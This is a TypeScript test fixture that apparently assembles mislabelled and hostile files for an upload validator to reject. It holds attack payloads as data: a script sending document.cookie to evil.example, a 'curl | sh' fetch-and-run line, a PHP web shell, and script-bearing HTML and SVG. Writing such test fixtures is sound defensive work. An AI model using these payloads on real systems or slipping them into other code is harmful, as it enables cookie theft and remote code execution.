import { gzipSync } from 'node:zlib'
import type { FileType } from '#shared/model/upload-purposes.ts'
import { hostilePdfs } from './hostile-pdfs.ts'
import { hostileJpegs, hostilePngs, hostileWebps } from './hostile-pictures.ts'
import { pdfOf } from './sample-pdf.ts'
import { jpegOf, pngOf, webpOf } from './sample-pictures.ts'

export type HostileFile = { name: string; contentType: FileType; bytes: Buffer }

const page = '<!doctype html><script>alert(document.cookie)</script>'

/** What is no picture and no document at all. */
const foreign: Record<string, Buffer | string> = {
  'a page': page,
  'an SVG that acts': '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>',
  'an SVG behind a byte order mark': '\ufeff<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"/>',
  'a script of the browser': 'fetch("https://evil.example/" + document.cookie)',
  'a script of a shell': '#!/bin/sh\ncurl https://evil.example | sh\n',
  'a script of a server': '<?php system($_GET["c"]); ?>',
  'a program of Windows': Buffer.concat([Buffer.from('MZ'), Buffer.alloc(100), Buffer.from('PE\0\0')]),
  'a program of Linux': Buffer.concat([Buffer.from('\x7fELF\x02\x01\x01', 'latin1'), Buffer.alloc(60)]),
  'an archive': Buffer.concat([Buffer.from('PK\x03\x04', 'latin1'), Buffer.alloc(26), Buffer.from('a.docm')]),
  'a packed page': gzipSync(page),
  'a GIF': Buffer.from('GIF89a\x01\0\x01\0\0\0\0;', 'latin1'),
  'a bitmap': Buffer.concat([Buffer.from('BM'), Buffer.alloc(60)]),
  'a film': Buffer.concat([Buffer.from('\0\0\0\x18ftypmp42', 'latin1'), Buffer.alloc(40)]),
  'a TIFF': Buffer.concat([Buffer.from('II*\0', 'latin1'), Buffer.alloc(40)]),
  'a style sheet': 'body { background: url(https://evil.example) }',
  'a line of text': 'Hello.',
  'one zero': Buffer.alloc(1),
  'a megabyte of zeros': Buffer.alloc(1_000_000),
}

const honest: Record<FileType, Buffer> = {
  'image/jpeg': jpegOf(),
  'image/png': pngOf(),
  'image/webp': webpOf(),
  'application/pdf': pdfOf(),
}
const types = Object.keys(honest) as FileType[] // the names of the very table above

const named = (kind: string, contentType: FileType, files: Record<string, Buffer | string>): HostileFile[] =>
  Object.entries(files).map(([name, bytes]) => ({ name: `${kind} ${name}`, contentType, bytes: Buffer.from(bytes) }))

/** None of these is ever kept. */
export const hostileFiles: HostileFile[] = [
  ...types.flatMap((contentType) => named(`${contentType}:`, contentType, foreign)),
  ...types.flatMap((contentType) =>
    types
      .filter((other) => other !== contentType)
      .map((other) => ({ name: `${contentType}: an honest ${other}`, contentType, bytes: honest[other] })),
  ),
  ...named('a JPEG', 'image/jpeg', hostileJpegs),
  ...named('a PNG', 'image/png', hostilePngs),
  ...named('a WebP', 'image/webp', hostileWebps),
  ...named('a PDF', 'application/pdf', hostilePdfs),
]
